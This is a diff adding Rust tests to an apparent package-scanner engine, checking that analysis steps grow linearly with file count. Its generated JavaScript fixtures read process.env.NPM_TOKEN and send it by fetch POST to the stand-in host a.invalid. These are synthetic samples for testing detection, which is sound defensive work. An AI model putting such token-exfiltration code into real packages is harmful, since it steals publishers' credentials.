@@ -140,3 +140,88 @@ fn steps_that_run_out_are_told() {
     let case = case("file-steps", 0, tgz(&files(loops)), "unresolved-value");
     assert_eq!(told(&case, 0), "unresolved-value");
 }
+
+/// The least `package-steps` with which a package of so many files is followed to its end.
+fn least_steps(files: &[File]) -> u64 {
+    let archive = tgz(files);
+    let is_whole = |steps: u64| {
+        let mut limits = Limits::default();
+        limits.package_steps = steps;
+        let report = Engine::builder()
+            .limits(limits)
+            .build()
+            .unwrap()
+            .scan(&archive);
+        let report: Value = serde_json::from_str(&report.unwrap().to_json()).unwrap();
+        let unanalysed = report["coverage"]["unanalysed"].as_array().unwrap();
+        let ran_out = |one: &Value| {
+            one["detail"]
+                .as_str()
+                .unwrap_or("")
+                .contains("package-steps")
+        };
+        !unanalysed.iter().any(ran_out)
+    };
+    let (mut low, mut high) = (0, 1_u64 << 24);
+    assert!(is_whole(high), "the steps must be enough at first");
+    while high - low > 1 + high / 64 {
+        let middle = low + (high - low) / 2;
+        match is_whole(middle) {
+            true => high = middle,
+            false => low = middle,
+        }
+    }
+    high
+}
+
+/// A chain of so many files, each of which hands a secret on to the next, and exports of it.
+fn chain(files: usize) -> Vec<File> {
+    let mut all = vec![(
+        "package.json".to_owned(),
+        br#"{"name":"p","version":"1.0.0","main":"f0.js"}"#.to_vec(),
+    )];
+    for at in 0..files {
+        let text = if at + 1 < files {
+            let next = at + 1;
+            format!(
+                "const next = require('./f{next}');\n\
+                 exports.read = () => next.read() + '{at}';\n\
+                 exports.send = (value) => next.send(value + '{at}');\n"
+            )
+        } else {
+            "exports.read = () => process.env.NPM_TOKEN;\n\
+             exports.send = (value) => fetch('https://a.invalid/', { method: 'POST', body: value });\n"
+                .to_owned()
+        };
+        all.push((format!("f{at}.js"), text.into_bytes()));
+    }
+    all
+}
+
+/// Many files beside each other that use one, and hand it values.
+fn fan(files: usize) -> Vec<File> {
+    let mut all = chain(2);
+    for at in 0..files {
+        let text = format!(
+            "const one = require('./f0');\n\
+             exports.a{at} = (value) => one.send(value.name);\n\
+             one.send(process.env.NAME_{at});\n"
+        );
+        all.push((format!("g{at}.js"), text.into_bytes()));
+    }
+    all
+}
+
+#[test]
+fn joining_what_files_say_is_linear() {
+    for (name, package) in [("chain", chain as fn(usize) -> Vec<File>), ("fan", fan)] {
+        let steps = [12, 24, 48].map(|files| least_steps(&package(files)));
+        println!("{name}: {steps:?} steps for n, 2n, 4n files");
+        for (small, large) in [(steps[0], steps[1]), (steps[1], steps[2])] {
+            assert!(
+                large * 10 <= small * 24,
+                "{name}: {steps:?} steps for n, 2n, 4n files"
+            );
+        }
+    }
+}
